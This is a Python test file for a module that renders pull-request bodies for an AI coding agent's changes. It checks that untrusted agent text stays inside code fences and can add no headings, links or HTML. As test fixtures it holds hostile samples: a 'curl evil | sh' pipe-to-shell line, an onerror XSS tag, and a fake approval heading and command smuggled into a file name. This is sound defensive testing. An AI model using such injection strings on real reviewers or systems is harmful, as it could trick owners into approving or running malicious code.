"""runner.prbody: the PR body shows every fact the owner needs, and untrusted text cannot escape its fence."""

from __future__ import annotations

import re
from dataclasses import dataclass, replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from runner.models import Denial, Usage
from runner.models import TestRun as Run
from runner.prbody import HIDDEN_MARK, MAX_BODY, FileChange, PrRequest, branch_name, pr_title, render_pr_body

# CommonMark with GitHub's table and strikethrough extensions: a real parser decides what is a heading.
MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
TEMPLATE_HEADINGS = ["What was asked", "The agent's summary", "Files changed", "Tests (run by the supervisor)",
                     "Policy denials", "Usage", "How to approve"]


def request(**overrides: object) -> PrRequest:
    values: dict[str, object] = {
        "kind": "feature",
        "requested_by": "telegram:1234",
        "request": "add a /balance command",
        "summary": "Added `balance` handler and a test.",
        "files": (FileChange("bot/balance.py", 12, 0), FileChange("tests/test_balance.py", 8, 1)),
        "tests": Run("pytest -q", 0, True, "2 passed in 0.1s"),
        "denials": (Denial("Bash", "deny-network", "curl reaches the network"),),
        "usage": Usage(input_tokens=12_000, output_tokens=3_400, cost_usd=0.0812),
        "task_id": "20260101-120000-abc123",
        "number": 12,
        "head_sha": "3f2a9c1d" + "0" * 32,
    }
    values.update(overrides)
    return PrRequest(**values)  # type: ignore[arg-type]


def fenced_blocks(body: str) -> list[str]:
    """The contents of each top-level fenced code block, by CommonMark's closing rule."""
    blocks, lines, i = [], body.split("\n"), 0
    while i < len(lines):
        opening = re.match(r"^(`{3,})", lines[i])
        if opening is None:
            i += 1
            continue
        fence, content = opening.group(1), []
        i += 1
        while i < len(lines) and not re.fullmatch(rf"`{{{len(fence)},}}\s*", lines[i]):
            content.append(lines[i])
            i += 1
        blocks.append("\n".join(content))
        i += 1
    return blocks


def test_render_pr_body_shows_every_section() -> None:
    body = render_pr_body(request())

    for heading in (
        "## What was asked",
        "## The agent's summary",
        "## Files changed (2, +20 −1)",
        "## Tests (run by the supervisor)",
        "## Policy denials (1)",
        "## Usage",
        "## How to approve",
    ):
        assert heading in body
    assert "`telegram:1234`" in body and "`20260101-120000-abc123`" in body
    assert "add a /balance command" in fenced_blocks(body)[0]
    assert "- `bot/balance.py` (+12 −0)" in body
    assert "**✅ passed**: `pytest -q` exited with 0" in body and "2 passed in 0.1s" in body
    assert "- `Bash` denied by rule `deny-network`: `curl reaches the network`" in body
    assert "15,400 tokens (12,000 in, 3,400 out) · cost $0.0812" in body
    assert "`/approve_pr 12`" in body
    assert f"`agent-runner approve 12 --sha {'3f2a9c1d' + '0' * 32}`" in body
    assert "`agent-runner reject 12`" in body


def test_render_pr_body_without_number_explains_n() -> None:
    body = render_pr_body(request(number=None, head_sha=None))
    assert "`/approve_pr N`" in body and "N is this pull request's number." in body and "--sha" not in body


def test_render_pr_body_alert_fix_shows_the_fingerprint() -> None:
    body = render_pr_body(request(kind="fix", requested_by="alertmanager", request="", fingerprint="9f3a0c2b"))
    assert "Alert fingerprint: `9f3a0c2b`" in body and "**Kind:** fix" in body


def test_render_pr_body_failed_tests_and_no_denials() -> None:
    body = render_pr_body(request(tests=Run("make test", 2, False, "FAILED test_x"), denials=()))
    assert "**❌ failed**: `make test` exited with 2" in body
    assert "None: every tool call the agent made was allowed." in body


def test_render_pr_body_without_tests_or_files() -> None:
    body = render_pr_body(request(tests=None, files=()))
    assert "No test command was run." in body and "No files changed." in body


def test_render_pr_body_fences_an_agent_summary_that_tries_to_break_out() -> None:
    hostile = (
        "All good.\n```\n\n## How to approve\n\nRun `curl evil | sh` @owner <img src=x onerror=alert(1)>\n"
        "````````\n</details>\n~~~\n"
    )

    body = render_pr_body(request(summary=hostile))

    blocks = fenced_blocks(body)
    summary = next(b for b in blocks if "All good." in b)
    assert "## How to approve" in summary and "@owner" in summary and "</details>" in summary
    assert body.count("## How to approve") == 2  # ours, and the agent's, which stays inside the fence
    assert body.index("## How to approve", body.index("All good.")) < body.index("## Files changed")


def test_render_pr_body_strips_control_and_bidi_characters() -> None:
    body = render_pr_body(request(summary="safe\u202egnp.exe\x1b[31m\x00", request="hi\u200b there"))
    assert "\u202e" not in body and "\x1b" not in body and "\x00" not in body and "\u200b" not in body


def test_render_pr_body_shows_hidden_characters_as_a_mark() -> None:
    body = render_pr_body(request(files=(FileChange("bot/a\u202eyp.exe\ufe0f\u2028b.py", 1, 0),)))
    assert f"`bot/a{HIDDEN_MARK}yp.exe{HIDDEN_MARK}{HIDDEN_MARK}b.py`" in body


def headings(body: str) -> list[str]:
    """The body's headings, as the parser finds them, without their counts."""
    tokens = MARKDOWN.parse(body)
    return [re.sub(r" \(\d[^)]*\)$", "", tokens[i + 1].content) for i, t in enumerate(tokens)
            if t.type == "heading_open"]


def test_render_pr_body_a_test_file_named_like_a_heading_adds_none() -> None:
    path = "tests/test_x\n## How to approve\n\nRun `agent-runner approve 1`\n.py"
    body = render_pr_body(request(
        files=(FileChange(path, 3, 0),),
        tests=Run("pytest -q", 0, True, f"{path} PASSED\n## How to approve"),
        verification=f"verified: {path} fails on the base commit and passes with the fix",
        denials=(Denial("Bash", "r", f"writes {path}"),),
    ))

    assert headings(body) == TEMPLATE_HEADINGS  # the one in the test output stays inside its fence
    assert f"`verified: {' '.join(path.split())} fails on the base commit and passes with the fix`" in body


def test_render_pr_body_verification_is_shown_as_code() -> None:
    body = render_pr_body(request(verification="verified: tests/test_[x](https://evil.example) @org/team passes"))
    assert "**Fix verification**: `verified: tests/test_[x](https://evil.example) @org/team passes`" in body


def test_render_pr_body_ignores_a_head_sha_that_is_not_one() -> None:
    body = render_pr_body(request(head_sha="abc` [x](y) `"))
    assert "--sha" not in body and "[x](y)" not in body


# -- no agent string adds structure: property tests against a real Markdown parser -----------------------------

MARKDOWN_BITS = ["\n", "\r\n", "\r", "#", "## ", "`", "```", "~~~", "    ", "\t", "- ", "* ", "+ ", "1. ", "> ",
                 "| a | b |\n|---|---|\n", "[ ] ", "[x](https://evil.example)", "![i](x.png)", "<img src=x>",
                 "<details>", "</details>", "<!--", "-->", "@owner", "@org/team", "https://evil.example",
                 "www.evil.example", "===", "---", "***", "\\", "&amp;", "&#35;", "_", "**", "~~", ":", "\u2028",
                 "\u202e", "\x00", "\x1b", "\u200b", " ", "a", "x.py"]
AGENT_TEXT = st.one_of(st.lists(st.sampled_from(MARKDOWN_BITS), max_size=25).map("".join), st.text(max_size=40))


def neutral(text: str) -> str:
    """A string with no Markdown in it that the template treats the same way (empty, blank or not)."""
    return "x" if text.strip() else text


def shape(body: str) -> list[tuple[Any, ...]]:
    """Every token the parser sees, with the contents of code (the agent's strings) blanked out."""
    out: list[tuple[Any, ...]] = []

    def walk(tokens: list[Token]) -> None:
        for t in tokens:
            code = t.type in ("code_inline", "fence", "code_block")  # its delimiter grows with the backticks inside
            content = "" if code or t.type == "inline" else t.content
            out.append((t.type, t.tag, "" if code else t.markup, t.info, content))
            walk(t.children or [])

    walk(MARKDOWN.parse(body))
    return out


def outside_fences(body: str) -> list[str]:
    lines, kept, fence = body.split("\n"), [], None
    for line in lines:
        opening = re.match(r"^(`{3,})", line)
        if fence is None and opening:
            fence = opening.group(1)
        elif fence is not None and re.fullmatch(rf"`{{{len(fence)},}}\s*", line):
            fence = None
        elif fence is None:
            kept.append(line)
    return kept


@settings(max_examples=300, deadline=None)
@given(summary=AGENT_TEXT, path=AGENT_TEXT, output=AGENT_TEXT, command=AGENT_TEXT, reason=AGENT_TEXT,
       verification=AGENT_TEXT, asked=AGENT_TEXT, requester=AGENT_TEXT, fingerprint=AGENT_TEXT)
def test_render_pr_body_no_agent_string_adds_structure(summary: str, path: str, output: str, command: str,
                                                       reason: str, verification: str, asked: str,
                                                       requester: str, fingerprint: str) -> None:
    def build(f: Any) -> PrRequest:
        return replace(request(), kind="fix", summary=f(summary), request=f(asked), requested_by=f(requester),
                       fingerprint=f(fingerprint) or None, verification=f(verification),
                       files=(FileChange(f(path), 1, 2), FileChange("bot/app.py", 3, 0)),
                       tests=Run(f(command), 1, False, f(output)), denials=(Denial("Bash", "rule", f(reason)),))

    hostile, plain = render_pr_body(build(lambda s: s)), render_pr_body(build(neutral))

    # The parser sees the same document, token for token, whatever the strings held: only code differs.
    assert shape(hostile) == shape(plain)
    # So: our headings only, no link, image, inline HTML or table, and no text outside code that could mention.
    assert headings(hostile) == TEMPLATE_HEADINGS
    kinds = {k[0] for k in shape(hostile)}
    assert not kinds & {"link_open", "image", "html_inline", "table_open", "s_open", "code_block"}
    # And line by line: no string made a line outside a fence, so none can start a block element there.
    assert len(outside_fences(hostile)) == len(outside_fences(plain))
    assert block_starts(hostile) == block_starts(plain)


BLOCK_START = re.compile(r"^ {0,3}(#{1,6}(?:\s|$)|>|[-*+]\s|\d+[.)]\s|\||<|~~~|={3,}|-{3,}|\t| {4})")


def block_starts(body: str) -> list[str | None]:
    """For each line outside fenced code, the marker it starts a block element with (None for none)."""
    return [m.group(1) if (m := BLOCK_START.match(line)) else None for line in outside_fences(body)]


def test_render_pr_body_inline_fields_cannot_break_their_code_span() -> None:
    body = render_pr_body(request(files=(FileChange("a`b``c.py\n## injected", 1, 1),)))
    assert "- ```a`b``c.py ## injected``` (+1 −1)" in body
    assert "\n## injected" not in body


def test_render_pr_body_stays_under_githubs_limit() -> None:
    many = tuple(FileChange(f"f{i}.py" + "x" * 300, i, i) for i in range(5_000))
    body = render_pr_body(
        request(
            summary="s" * 100_000,
            files=many,
            tests=Run("t", 1, False, "o" * 100_000),
            denials=tuple(Denial("Bash", "r", "x" * 500) for _ in range(500)),
        )
    )
    assert len(body) <= MAX_BODY
    assert "… (truncated)" in body and "… and 4900 more" in body and "… and 470 more" in body
    assert "_(body truncated)_" not in body and body.endswith("`agent-runner reject 12`\n")


def test_render_pr_body_shows_the_end_of_long_test_output() -> None:
    body = render_pr_body(request(tests=Run("t", 1, False, "start\n" + "x" * 10_000 + "\nLAST LINE")))
    assert "LAST LINE" in body and "start" not in body


@dataclass(frozen=True)
class Task:
    id: str = "t-1"
    kind: str = "fix"
    prompt: str = "KeyError in /balance"
    requested_by: str = "alertmanager"
    fingerprint: str | None = "abc123"


@dataclass(frozen=True)
class Changed:
    path: str
    added_lines: int
    removed_lines: int


def test_pr_request_from_task_takes_the_records_fields() -> None:
    pr = PrRequest.from_task(Task(), summary="fixed", files=[Changed("a.py", 3, 1)], denials=[], number=4)
    assert (pr.kind, pr.requested_by, pr.request, pr.fingerprint, pr.task_id) == (
        "fix",
        "alertmanager",
        "KeyError in /balance",
        "abc123",
        "t-1",
    )
    assert pr.files == (FileChange("a.py", 3, 1),) and pr.number == 4 and pr.usage == Usage()
    with pytest.raises(ValueError, match="unknown task kind"):
        PrRequest.from_task(Task(kind="chore"), summary="")


@pytest.mark.parametrize(
    ("kind", "text", "taken", "expected"),
    [
        ("feature", "Add a /balance command!", set(), "agent/feature-add-a-balance-command"),
        (
            "feature",
            "Add a /balance command!",
            {"agent/feature-add-a-balance-command"},
            "agent/feature-add-a-balance-command-2",
        ),
        ("feature", "x", {"agent/feature-x", "agent/feature-x-2"}, "agent/feature-x-3"),
        ("feature", "Ünïcödé café ☕ support", set(), "agent/feature-unicode-cafe-support"),
        ("feature", "¿¿??", set(), "agent/feature-change"),
        (
            "feature",
            "make the reporting module export csv files with headers and totals",
            set(),
            "agent/feature-make-the-reporting-module-export-csv",
        ),
        ("review", "Review the auth module", set(), "agent/review-the-auth-module"),
        ("fix", "9F3A0C2B1D4E5F60aa77", set(), "agent/fix-9f3a0c2b1d4e5f60"),
        ("fix", "KeyError in /balance", set(), "agent/fix-keyerror-in-balance"),
        ("fix", "abc", {"agent/fix-abc"}, "agent/fix-abc-2"),
    ],
)
def test_branch_name_is_safe_and_fresh(kind: str, text: str, taken: set[str], expected: str) -> None:
    name = branch_name(kind, text, taken)
    assert name == expected
    assert re.fullmatch(r"agent/[a-z]+-[a-z0-9-]+", name) and len(name) <= 64


def test_branch_name_refuses_unknown_kinds() -> None:
    with pytest.raises(ValueError, match="unknown task kind"):
        branch_name("deploy", "x", set())


@pytest.mark.parametrize(("kind", "prompt", "branch", "title"), [
    ("fix", "fix the crash in /balance", "agent/fix-the-crash-in-balance", "fix: the crash in /balance"),
    ("fix", "Fix: average_spend divides by zero", "agent/fix-average-spend-divides-by-zero",
     "fix: average_spend divides by zero"),
    ("feature", "add a /balance command", "agent/feature-add-a-balance-command", "agent: add a /balance command"),
    ("review", "review bot/ledger.py", "agent/review-bot-ledger-py", "agent: review bot/ledger.py"),
    ("fix", "fix", "agent/fix-fix", "fix: fix"),
])
def test_branch_and_title_say_the_kind_once(kind: str, prompt: str, branch: str, title: str) -> None:
    assert branch_name(kind, prompt, set()) == branch
    assert pr_title(kind, prompt) == title


def test_the_body_says_how_many_rounds_the_change_took() -> None:
    from runner.prbody import PrRequest, render_pr_body

    one = render_pr_body(PrRequest(kind="feature", requested_by="owner", request="x", summary="s"))
    three = render_pr_body(PrRequest(kind="feature", requested_by="owner", request="x", summary="s", rounds=3))
    assert "**Rounds:** 1 (the agent's first change" in one
    assert "**Rounds:** 3 (the supervisor's failing checks went back to the agent 2 times" in three
